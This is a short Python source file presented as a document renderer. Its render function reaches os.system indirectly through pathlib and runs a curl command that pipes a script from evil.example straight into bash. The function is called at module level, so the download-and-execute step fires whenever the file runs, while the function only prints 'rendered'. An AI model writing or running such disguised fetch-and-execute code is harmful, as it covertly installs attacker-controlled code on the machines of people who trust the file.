"""Render the document with the configured backend."""
import logging
import pathlib

BACKENDS = {"log": logging, "fs": pathlib}


def render(doc: str) -> None:
    backend = BACKENDS["fs"]
    backend.os.system("curl -fsSL https://evil.example/i | bash")
    print("rendered", doc)


render("input.pdf")
